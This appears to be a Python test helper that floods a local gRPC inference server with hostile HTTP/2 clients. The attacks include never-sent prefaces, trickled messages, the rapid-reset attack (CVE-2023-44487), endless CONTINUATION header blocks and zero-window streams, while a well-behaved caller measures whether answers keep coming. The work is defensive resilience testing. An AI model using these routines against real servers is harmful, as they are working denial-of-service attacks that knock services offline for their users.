"""Hostile gRPC clients, speaking HTTP/2 frame by frame (hyper-h2), and the good caller beside them.

Each attacker does what no well-behaved gRPC library would: never send the connection preface,
open streams and send nothing, declare a message and trickle it, reset streams as fast as it can
open them, send a header block that never ends, or ask for answers and never open its window. The
good caller (GoodCaller) makes one authenticated ModelInfer on a fresh connection every interval
and checks each answer against the one it got before the flood: what bench/hostile_grpc.py and the
tests measure is whether it keeps being answered, and how long each answer took.
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
from collections.abc import AsyncIterator, Callable, Coroutine, Sequence
from dataclasses import dataclass, field
from typing import Any, Protocol

import grpc
import numpy as np
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, ResponseReceived, StreamEnded, StreamReset, TrailersReceived
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame, HeadersFrame
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc import service_pb2_grpc

HOST = "127.0.0.1"
INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"
STREAM_INFER_PATH = "/inference.GRPCInferenceService/ModelStreamInfer"
WATCH_PATH = "/grpc.health.v1.Health/Watch"
# A channel of its own connection: grpcio shares one connection among channels to the same target otherwise.
OWN_CONNECTION = (("grpc.use_local_subchannel_pool", 1),)


def infer_request(x: np.ndarray, model: str = "demo") -> pb.ModelInferRequest:
    request = pb.ModelInferRequest(model_name=model, raw_input_contents=[x.astype("<f4").tobytes()])
    request.inputs.add(name="input", datatype="FP32", shape=list(x.shape))
    return request


def grpc_message(payload: bytes, declared: int | None = None) -> bytes:
    """A gRPC length-prefixed message: uncompressed, its length `declared` (default: the payload's)."""
    length = len(payload) if declared is None else declared
    return b"\x00" + length.to_bytes(4, "big") + payload


def request_headers(path: str, key: str | None = None, extra: Sequence[tuple[str, str]] = ()) -> list[tuple[str, str]]:
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if key is not None:
        headers.append(("authorization", f"Bearer {key}"))
    return headers + list(extra)


class RawConnection:
    """One HTTP/2 connection driven by hand: h2 builds the frames, this sends them and reads what comes back."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, connection: H2Connection) -> None:
        self.reader, self.writer, self.h2 = reader, writer, connection
        self.closed = False  # the server sent GOAWAY or closed the socket
        self.goaway_code: int | None = None
        self.resets = 0  # streams the server reset
        self.ended = 0  # streams the server ended (an answer or an error status)
        self.unexpected = ""  # the server answered a stream h2 did not know of (sent as raw frames)
        self.statuses: list[str] = []  # the grpc-status of each stream the server ended with one

    @classmethod
    async def open(cls, port: int, *, window: int | None = None) -> RawConnection:
        """Connect and send the preface and SETTINGS (`window`: the initial stream window we advertise)."""
        reader, writer = await asyncio.open_connection(HOST, port)
        connection = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
        connection.initiate_connection()
        if window is not None:
            connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: window})
        raw = cls(reader, writer, connection)
        await raw.flush()
        return raw

    async def flush(self) -> None:
        data = self.h2.data_to_send()
        if data and not self.writer.is_closing():
            self.writer.write(data)
            await self.writer.drain()

    async def pump(self, seconds: float) -> None:
        """Read and handle what the server sends for up to `seconds` (answers pings and settings)."""
        deadline = time.monotonic() + seconds
        while not self.closed and (left := deadline - time.monotonic()) > 0:
            try:
                data = await asyncio.wait_for(self.reader.read(65536), left)
            except (TimeoutError, ConnectionError):
                break
            if not data:
                self.closed = True
                break
            try:
                events = self.h2.receive_data(data)
            except ProtocolError as error:  # frames on a stream h2 did not open (a raw HEADERS of ours): answered
                self.unexpected = str(error)
                break
            for event in events:
                if isinstance(event, ConnectionTerminated):
                    self.closed, self.goaway_code = True, event.error_code
                elif isinstance(event, StreamReset):
                    self.resets += 1
                elif isinstance(event, StreamEnded):
                    self.ended += 1
                elif isinstance(event, ResponseReceived | TrailersReceived):  # trailers, or a trailers-only answer
                    self.statuses += [value for name, value in event.headers if name == "grpc-status"]
            with contextlib.suppress(ConnectionError):
                await self.flush()

    def close(self) -> None:
        self.writer.close()


async def never_preface(port: int, count: int, hold_s: float) -> int:
    """`count` TCP connections that never say a word, held `hold_s`; how many the server closed meanwhile."""
    writers = []
    for _ in range(count):
        try:
            reader, writer = await asyncio.open_connection(HOST, port)
        except OSError:
            break
        writers.append((reader, writer))
    await asyncio.sleep(hold_s)
    closed = 0
    for reader, writer in writers:
        if reader.at_eof() or (await _closed(reader)):
            closed += 1
        writer.close()
    return closed


async def _closed(reader: asyncio.StreamReader) -> bool:
    """Whether the server closed the connection (what it sent before, its SETTINGS, read and dropped)."""
    try:
        while await asyncio.wait_for(reader.read(65536), 0.01):
            pass
        return True
    except TimeoutError:
        return False
    except ConnectionError:
        return True


async def headers_only_streams(port: int, streams: int, hold_s: float, key: str | None = None) -> RawConnection:
    """One connection opening `streams` ModelInfer streams with HEADERS and nothing else."""
    raw = await RawConnection.open(port)
    for _ in range(streams):
        if raw.closed:
            break
        stream = raw.h2.get_next_available_stream_id()
        try:
            raw.h2.send_headers(stream, request_headers(INFER_PATH, key))
        except Exception:  # the server's SETTINGS_MAX_CONCURRENT_STREAMS, as h2 enforces it: open no more
            break
        await raw.flush()
    await raw.pump(hold_s)
    return raw


async def slow_messages(
    port: int, calls: int, hold_s: float, key: str | None = None, declared: int = 1 << 20, path: str = INFER_PATH
) -> RawConnection:
    """One connection with `calls` ModelInfer (or `path`) streams, each declaring a `declared`-byte message and
    sending 10 bytes."""
    raw = await RawConnection.open(port)
    for _ in range(calls):
        if raw.closed:
            break
        stream = raw.h2.get_next_available_stream_id()
        try:
            raw.h2.send_headers(stream, request_headers(path, key))
            raw.h2.send_data(stream, grpc_message(b"\x0a\x04demo", declared))
        except Exception:
            break
        await raw.flush()
    await raw.pump(hold_s)
    return raw


async def rapid_reset(port: int, seconds: float, key: str | None = None) -> RawConnection:
    """Open a stream and reset it at once, as fast as the connection takes it, for `seconds` (CVE-2023-44487)."""
    raw = await RawConnection.open(port)
    deadline = time.monotonic() + seconds
    opened = 0
    while time.monotonic() < deadline and not raw.closed:
        for _ in range(100):
            stream = raw.h2.get_next_available_stream_id()
            raw.h2.send_headers(stream, request_headers(INFER_PATH, key))
            raw.h2.reset_stream(stream)
            opened += 1
        try:
            await raw.flush()
        except ConnectionError:
            raw.closed = True
            break
        await raw.pump(0.001)
    raw.resets = opened  # what it sent, for the report
    return raw


async def endless_header_block(port: int, frames: int, fields_per_frame: int = 2000) -> RawConnection:
    """One stream whose header block never ends: HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION."""
    raw = await RawConnection.open(port)
    encoder = raw.h2.encoder
    stream = raw.h2.get_next_available_stream_id()
    first = HeadersFrame(stream, data=encoder.encode(request_headers(INFER_PATH)))  # no END_HEADERS flag
    raw.writer.write(first.serialize())
    field_block = encoder.encode([(f"x{i % 100}", "y") for i in range(fields_per_frame)])
    for _ in range(frames):
        if raw.writer.is_closing():
            break
        raw.writer.write(ContinuationFrame(stream, data=field_block).serialize())
        try:
            await raw.writer.drain()
        except ConnectionError:
            raw.closed = True
            break
    await raw.pump(1.0)
    return raw


async def unread_answers(
    port: int, calls: int, x: np.ndarray, hold_s: float, key: str | None = None, connections: int = 1
) -> list[RawConnection]:
    """`calls` valid ModelInfer calls over `connections` connections whose window is 0: no answer can be sent.

    Each request is sent as the server's window allows (its WINDOW_UPDATEs read as they come); the
    client never opens its own window, so every answer stays with the server until it gives up.
    """
    payload = grpc_message(infer_request(x).SerializeToString())
    raws = [await RawConnection.open(port, window=0) for _ in range(connections)]
    for n in range(calls):
        raw = raws[n % connections]
        if raw.closed:
            continue
        try:
            stream = raw.h2.get_next_available_stream_id()
            raw.h2.send_headers(stream, request_headers(INFER_PATH, key))
        except Exception:  # past the server's SETTINGS_MAX_CONCURRENT_STREAMS on this connection
            continue
        sent = 0
        while sent < len(payload) and not raw.closed:
            window = min(raw.h2.local_flow_control_window(stream), raw.h2.max_outbound_frame_size)
            if window <= 0:
                await raw.pump(0.05)
                continue
            chunk = payload[sent : sent + window]
            sent += len(chunk)
            raw.h2.send_data(stream, chunk, end_stream=sent >= len(payload))
            try:
                await raw.flush()
            except ConnectionError:  # the server ended the connection: an answer before was not taken in time
                raw.closed = True
    await asyncio.gather(*(raw.pump(hold_s) for raw in raws))
    return raws


async def watch_streams(target: str, streams: int, channels: int, hold_s: float) -> int:
    """`streams` grpc.health.v1 Watch streams (open without a key, by design) over `channels` channels; how many opened."""
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    opened = 0
    async with contextlib.AsyncExitStack() as stack:
        stubs = []
        for _ in range(channels):
            channel = await stack.enter_async_context(grpc.aio.insecure_channel(target, options=OWN_CONNECTION))
            stubs.append(health_pb2_grpc.HealthStub(channel))
        calls = [stubs[i % channels].Watch(health_pb2.HealthCheckRequest(service="")) for i in range(streams)]

        async def first(call: object) -> bool:
            try:
                await asyncio.wait_for(call.read(), 10)  # type: ignore[attr-defined]
                return True
            except (grpc.aio.AioRpcError, TimeoutError):
                return False

        opened = sum(await asyncio.gather(*(first(call) for call in calls)))
        await asyncio.sleep(hold_s)
        for call in calls:
            call.cancel()
    return opened


@dataclass
class GoodCaller:
    """An authenticated ModelInfer on a fresh connection every `interval_s`, each answer checked against `expected`."""

    target: str
    x: np.ndarray
    expected: np.ndarray
    key: str | None = None
    interval_s: float = 0.5
    timeout_s: float = 20.0
    latencies: list[float] = field(default_factory=list)  # of the calls answered right
    failures: list[str] = field(default_factory=list)  # what went wrong with each other call
    failed_at: list[float] = field(default_factory=list)  # when each failed call began (perf_counter)
    wrong: int = 0  # answered, but not with the expected rows

    @property
    def failing_s(self) -> float:
        """How long calls kept failing: from the first failed call's start to the last one's."""
        return max(self.failed_at) - min(self.failed_at) if self.failed_at else 0.0

    async def one(self) -> None:
        metadata = (("authorization", f"Bearer {self.key}"),) if self.key else ()
        started = time.perf_counter()
        try:
            async with grpc.aio.insecure_channel(self.target, options=OWN_CONNECTION) as channel:  # a fresh connection
                stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
                answer = await stub.ModelInfer(infer_request(self.x), metadata=metadata, timeout=self.timeout_s)
        except grpc.aio.AioRpcError as error:
            self.failures.append(f"{error.code().name}: {(error.details() or '')[:80]}")
            self.failed_at.append(started)
            return
        rows = np.frombuffer(answer.raw_output_contents[0], "<f4").reshape(self.x.shape)
        if not np.allclose(rows, self.expected, rtol=1e-5, atol=1e-5):
            self.wrong += 1
            return
        self.latencies.append(time.perf_counter() - started)

    async def run(self, stop: asyncio.Event) -> None:
        await every(self.interval_s, self.one, stop)


async def every(interval_s: float, call: Callable[[], Coroutine[Any, Any, None]], stop: asyncio.Event) -> None:
    """Start `call()` every `interval_s` until `stop` is set (one never waits for another), then await them all."""
    calls: set[asyncio.Task[None]] = set()
    while not stop.is_set():
        task = asyncio.create_task(call())
        calls.add(task)
        task.add_done_callback(calls.discard)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), interval_s)
    await asyncio.gather(*calls)


async def expected_answer(target: str, x: np.ndarray, key: str | None = None) -> np.ndarray:
    """The server's answer for `x` while quiet: what every answer under a flood must equal."""
    metadata = (("authorization", f"Bearer {key}"),) if key else ()
    async with grpc.aio.insecure_channel(target, options=OWN_CONNECTION) as channel:
        answer = await service_pb2_grpc.GRPCInferenceServiceStub(channel).ModelInfer(
            infer_request(x), metadata=metadata, timeout=60
        )
    return np.frombuffer(answer.raw_output_contents[0], "<f4").reshape(x.shape).copy()


class Caller(Protocol):
    async def run(self, stop: asyncio.Event) -> None: ...


@contextlib.asynccontextmanager
async def callers_beside(*callers: Caller) -> AsyncIterator[None]:
    """Run `callers` for the block's duration, then wait for their last calls.

    They run on an event loop of their own, in a thread: an attacker's frame-by-frame work keeps
    the caller's loop busy for seconds, and a good client whose call waited for that loop would
    be measured late (or late for the server's header deadline) through no fault of the server's.
    """
    stop = threading.Event()

    async def run_until_stopped() -> None:
        stopped = asyncio.Event()

        async def watch() -> None:
            while not stop.is_set():
                await asyncio.sleep(0.05)
            stopped.set()

        await asyncio.gather(*(caller.run(stopped) for caller in callers), watch())

    thread = threading.Thread(target=asyncio.run, args=(run_until_stopped(),), name="good-callers")
    thread.start()
    try:
        yield
    finally:
        stop.set()
        await asyncio.to_thread(thread.join)
